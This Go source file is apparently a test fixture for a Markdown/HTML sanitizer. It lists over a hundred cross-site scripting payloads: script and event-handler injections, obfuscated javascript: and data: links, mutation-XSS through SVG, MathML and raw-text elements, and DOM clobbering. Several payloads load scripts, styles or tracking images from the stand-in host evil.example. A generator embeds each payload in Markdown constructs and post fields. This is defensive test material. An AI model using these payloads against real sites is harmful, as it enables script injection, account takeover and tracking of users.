package hostile

import (
	"fmt"
	"strings"
)

// payloads are texts that attack. An attack has succeeded if alert is called,
// if an element, attribute or address outside the policy comes out, or if
// anything is requested from evil.example. Public collections have the same
// classes of attacks; these texts are our own.
var payloads = []string{
	// Scripts and handlers.
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`<script/x>alert(1)</script/x>`,
	"<script\n>alert(1)</script\n>",
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1)//<</script>`,
	`<script>alert(1)`,
	`</script><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)" a="`,
	`<img/src=x/onerror=alert(1)>`,
	"<img\tsrc=x\nonerror\r=\x0calert(1)>",
	`<img src=x OnErRoR=alert(1)//>`,
	`<img src='x' onerror='alert(1)'`,
	`<img """><script>alert(1)</script>">`,
	`<img src=x:x onerror=alert(1) alt="a>b">`,
	`<body onload=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)//`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`,
	`<video src=x onerror=alert(1)></video>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<p onmouseover=alert(1) style="position:fixed;inset:0">x</p>`,
	`<a onclick=alert(1) href=https://b.example/>x</a>`,
	`<b onanimationstart=alert(1) style=animation:x>y</b>`,
	`<time datetime="x" onbeforematch=alert(1) hidden=until-found>x</time>`,
	`<td background=//evil.example/a onload=alert(1)>x`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
	`<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>`,
	`<applet code=x></applet><portal src=//evil.example></portal>`,
	// Addresses.
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="java&#9;script:alert(1)">x</a>`,
	`<a href="java&#x0A;script&colon;alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#0000106avascript:alert(1)">x</a>`,
	`<a href="javascript&#0058alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	"<a href=\"java\x00script:alert(1)\">x</a>",
	"<a href=\"\u00a0javascript:alert(1)\">x</a>",
	"<a href=\"\ufeffjavascript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="blob:https://b.example/1">x</a>`,
	`<a href="view-source:javascript:alert(1)">x</a>`,
	`<a href="//evil.example/x">x</a>`,
	`<a href="/\evil.example/x">x</a>`,
	`<a href="\\evil.example/x">x</a>`,
	"<a href=\"/\t/evil.example/x\">x</a>",
	`<a href="https:evil.example">x</a>`,
	`<a href="https://parliament.example:x@evil.example/">x</a>`,
	`<a href="https://evil.example%2f@parliament.example/">x</a>`,
	`<a href="ｈttps://evil.example/">x</a>`,
	`<a href="javascript：alert(1)">x</a>`,
	`<a href="?javascript:alert(1)">x</a>`,
	`<a href="#" target=_top ping=//evil.example download>x</a>`,
	`<a href="mailto:a@b.example%0d%0abcc:evil@evil.example">x</a>`,
	`<a href="mailto:%3C/x%3E">x</a>`, // mended, it has a path instead of an address
	`[x](javascript:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](JAVASCRIPT&#58;alert(1))`,
	`[x](\javascript:alert(1))`,
	"[x](<java\u2028script:alert(1)>)",
	`[x](data:text/html,<script>alert(1)</script>)`,
	`![x](javascript:alert(1))`,
	`![x](https://evil.example/track.gif)`,
	`![x](//evil.example/track.gif)`,
	`![x"onerror="alert(1)](x)`,
	`![x](x"onerror="alert(1))`,
	`[x](https://b.example/ "t' onmouseover='alert(1)")`,
	`<javascript:alert(1)>`,
	`<https://b.example/"onclick="alert(1)>`,
	"[x]: javascript:alert(1)\n\n[x]",
	`<img src=https://evil.example/a srcset="https://evil.example/b 2x" lowsrc=//evil.example/c>`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
	`<image href=//evil.example/a><picture><source srcset=//evil.example/b><img></picture>`,
	`<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example>`,
	`<base href=//evil.example/><a href=x>y</a>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<meta http-equiv=Content-Security-Policy content="default-src *">`,
	`<blockquote cite="javascript:alert(1)"><q cite=//evil.example>x</q></blockquote>`,
	// Styles, names, forms.
	`<style>@import '//evil.example/x.css'; body{display:none}</style>`,
	`<p style="background:url(//evil.example/a);position:fixed;inset:0;z-index:9999">x</p>`,
	`<div class="btn btn-danger modal" id=location name=cookie>x</div>`,
	`<a id=document name=getElementById href=https://b.example/>x</a>`,
	`<form id=body action=//evil.example><input name=attributes><button formaction=javascript:alert(1)>x</button></form>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<input type=password name=p><textarea autofocus>x</textarea>`,
	`<input type="checkbox" onclick=alert(1) autofocus form=x>`,
	`<button popovertarget=x>x</button><div popover id=x>y</div><dialog open>z</dialog>`,
	`<p contenteditable tabindex=1 accesskey=x draggable=true is=x-y slot=z part=w exportparts=v>x</p>`,
	`<p aria-hidden=true role=alert data-bind="alert(1)" hx-get=//evil.example x-init=alert(1) v-html=x>y</p>`,
	"# config\n\n## __proto__\n\n### constructor {#id .class onclick=alert(1)}",
	// Other parsers: SVG, MathML, raw text, templates.
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><animate attributeName=href values=javascript:alert(1) /><a id=x></svg>`,
	`<svg><set attributeName=onmouseover to=alert(1)></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x></svg>#x"></svg>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
	`<svg></p><style><a title="</style><img src onerror=alert(1)>">`,
	`<svg><style><img title="</style><img src onerror=alert(1)>"></style></svg>`,
	`<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`,
	`<svg><title><a id="</title><img src onerror=alert(1)>"></svg>`,
	`<math><mi//xlink:href="javascript:alert(1)">x</mi></math>`,
	`<math href=javascript:alert(1)>x</math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>`,
	`<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
	`<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`,
	`<title><a id="</title><img src=x onerror=alert(1)>"></title>`,
	`<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>`,
	`<plaintext><img src onerror=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<template shadowrootmode=open><style>:host{position:fixed}</style><script>alert(1)</script></template>`,
	`<select><option><style></option></select><script>alert(1)</script></style>`,
	`<select><template><script>alert(1)</script></template></select>`,
	`<option><script>alert(1)</script></option>`,
	`<scrİpt>alert(1)</scrİpt><ſcript>alert(1)</ſcript><img ſrc=x onerror=alert(1)>`,
	// Comments, declarations, character data.
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<!--<img title="--><img src=x onerror=alert(1)>">`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><?php alert(1) ?><% alert(1) %>`,
	`<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
	`<//script><img src=x onerror=alert(1)>`,
	`</ <img src=x onerror=alert(1)>>`,
	`<? foo="><script>alert(1)</script>">`,
	`<! foo="><script>alert(1)</script>">`,
	`</ foo="><script>alert(1)</script>">`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	"\xf0<script>alert(1)</script>\x80",
	"<img src=`x` onerror=`alert(1)`>",
	"<x\x00script>alert(1)</x\x00script>",
	"\u202e<b>gnp.exe\u202c",
	// Getting out of the element around.
	`</article></section></main></body></html><script>alert(1)</script>`,
	`</div></div></div></p></td></tr></table></li></ul>out`,
	`<a href=https://evil.example/>the rest is a link`,
	`<b><i><u><s><small>the rest is small`,
	`<table><tr><td>swallowed<table>`,
	`<table><img src=x onerror=alert(1)><b>fostered</b><tr><td>x`,
	`<table><caption><table><form></caption></table>x`,
	`<p><table><p><a href=https://b.example/><table><a>x`,
	`<ul><li><ul></li><li></ul>x<dl><dd><dt><dd>`,
	`<h1><h2><h3></h1>x<pre>` + "\n\n" + `<pre>y`,
	`<ruby>a<rt>b<rp>c<ruby><rt>d`,
	`<a><b><a><b><p><a></b></p></a><i><p></i>x`,
	`<details><summary><details><summary>x</details>y`,
	`<figure><figcaption><figure></figcaption>x`,
	`<address><p><address></p>x</footer></header>`,
	`<em><table><em><tr><em><td><em>x`,
	`<nobr><nobr><nobr>x<font color=red><center>y`,
	strings.Repeat("<div>", 600) + "x",
	strings.Repeat("<b>", 600) + "x" + strings.Repeat("</i>", 600),
	strings.Repeat("<table><tr><td>", 200) + "x",
	strings.Repeat("> ", 200) + "<script>alert(1)</script>",
	// Templates of other programs.
	`{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)} [[${alert(1)}]]`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`" autofocus onfocus=alert(1) x="`,
	`--></style></title></textarea></script><svg/onload=alert(1)>`,
}

// constructs are Markdown with a place for a payload, %s.
var constructs = []string{
	"%s",
	"words %s words",
	"# %s",
	"%s\n===",
	"> %s\n> more",
	"- %s\n  - %s",
	"1. %s\n\n   %s",
	"- [ ] %s",
	"| a | b |\n|---|---|\n| %s | c |",
	"**%s**",
	"*a **%s* b**",
	"~~%s~~",
	"[%s](https://b.example/)",
	"![%s](https://board.example/a.png)",
	"![a](https://board.example/a.png \"%s\")",
	"[a](%s)",
	"[a](<%s>)",
	"<%s>",
	"[r]: %s '%s'\n\n[r] ![r]",
	"`%s`",
	"```%s\n%s\n```",
	"    %s",
	"<div>\n%s\n</div>",
	"<div>\n\n%s\n\n</div>\n\nafter",
	"a <b>%s</b> c",
	"<table><tr><td>\n\n%s\n\n</td></tr></table>",
	"<p title=\"%s\">x</p>",
	"<!-- %s -->",
	"https://b.example/%s",
	"a\\%s",
}

// fields are posts with a place for a payload in one field.
var fields = []string{
	"SUBJECT %s\nDATE 2024-03-01\n",
	"SUBJECT [%s] x\nDATE 2024-03-01\n",
	"SUBJECT x\nDATE %s\n",
	"SUBJECT x\nID %s\nDATE 2024-03-01\n",
	"SUBJECT x\nDATE 2024-03-01\nUPDATED %s\nEXPIRES %s\n",
	"SUBJECT x\nDATE 2024-03-01\nTAGS a, %s\n",
	"SUBJECT x\nDATE 2024-03-01\nLANG %s\n\ntext\n",
	"SUBJECT x\nDATE 2024-03-01\nURL %s\n",
	"SUBJECT x\nDATE 2024-03-01\nATTACHMENT %s\n",
	"SUBJECT x\nDATE 2024-03-01\nATTACHMENT [%s](<%s>) text/html 1\n",
	"SUBJECT x\nDATE 2024-03-01\n%s: %s\n",
	"SUBJECT x\nDATE 2024-03-01\n\nPHOTO: %s\n",
	"SUBJECT x\nDATE 2024-03-01\n\nPHOTO: c\n![%s](https://board.example/a.png)\n",
	"SUBJECT x\nDATE 2024-03-01\n\nPHOTO: c\n![a](<%s> =1x1)\n",
	"SUBJECT x\nDATE 2024-03-01\n\nPHOTO: c\n%s\n",
	"SUBJECT x\nDATE 2024-03-01\n\ntext\n\nBY %s\n",
	"SUBJECT x\nDATE 2024-03-01\n\ntext\n\nBY x (%s)\n",
	"---\ntitle: %s\ndate: 2024-03-01\n---\ntext\n",
	"---\ntitle: \"%s\"\nby: {name: %s}\nphotos:\n  - url: %s\n    alt: %s\n---\ntext\n",
	"%s",
}

// An Attack is the source of a post that has a payload in it.
type Attack struct {
	Name   string
	Source string
}

// Attacks yields each payload in each construct and in each field.
func Attacks(yield func(Attack) bool) {
	for p, payload := range payloads {
		for c, construct := range constructs {
			source := "SUBJECT x\nDATE 2024-03-01\n\n" + fill(construct, payload) + "\n"
			if !yield(Attack{fmt.Sprintf("payload %d in construct %d", p, c), source}) {
				return
			}
		}
		for f, field := range fields {
			line := strings.NewReplacer("\n", " ", "\r", " ").Replace(payload)
			if !yield(Attack{fmt.Sprintf("payload %d in field %d", p, f), fill(field, line)}) {
				return
			}
		}
	}
}

func fill(template, payload string) string { return strings.ReplaceAll(template, "%s", payload) }

// Payloads returns the payloads alone, to be read as HTML.
func Payloads() []string { return payloads }
